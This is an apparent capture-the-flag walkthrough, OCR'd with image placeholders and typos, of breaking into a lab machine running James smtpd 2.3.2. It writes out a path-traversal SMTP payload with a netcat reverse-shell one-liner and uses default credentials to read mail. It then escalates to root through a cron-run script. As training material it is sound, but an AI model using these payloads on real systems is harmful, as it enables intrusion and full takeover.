1. Network Discovery

2. Port scan

namp -Pn -p1000-

3. OS and service scan

4. Vuln scan

5. Starting w/ port 80


Directory scan

Access the site

View page source, nothing


Try XXS, but nothing happened.Maybe some username?

6. Next one is port 25: JAMES smtpd 2.3.2.

I came across this guide

Username: rootPassword: root

I changed all password

Access these account w/ pop3 service on port 110 using thunderbird

John: there’s a message

Mindy: there’re 2 messages.

I have mindy username and password to login to ssh.

7. login w/ mindy’s credential

cat user.txt

Try exploring system


Read passwd

I’mrestricted because of rbash, cannot do anything

8. James 2.3.2: Get ack to exploitation guide

Follow the guide

I have to supply the reverse shell command

Prepare listener on port 443

Connect to port 25

Following the guide and using reverse shell cheatsheet

MAIL FROM: <'>RCPT TO: <../../../../../../../../etc/bash_completion.d>DATAFrom: bla.bla'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 443 >/tmp/f.

Login w/ mindy again, you will see some weird stuff.

Back to listener, now I have a shell8. Privilege escalation

I need TTY shell.

I want to run

Prepare SimpleHTTPServer on attacker machine

Download the scriptChnage permission and run

/tmp/ -t

The machine is 32-bit.

There’s /opt/tmp/py -> very interesting

Cannot do anything with these filesNoting on SUID/SGID

Nothing on cron

Verify sudo

No command

Verifycapabilities

Let’s check some services beside cron job

I found this‘cron -f’. There must have something running in the background.

Observe system w/ pspy

This machine is 32-bit. I will download pspy32 to the machine.

chmod 777 pspy 32/tmp/pspy32

Wait for observation and I got this. It’s that ‘/opt/’.

Read the file.


I can append the script w/ this command to get root shell.Waiting for a while

ls-la

Now I got /tmp/rootbash

Run it


NowI’m root

Get root.txt

ls -lacat root.txt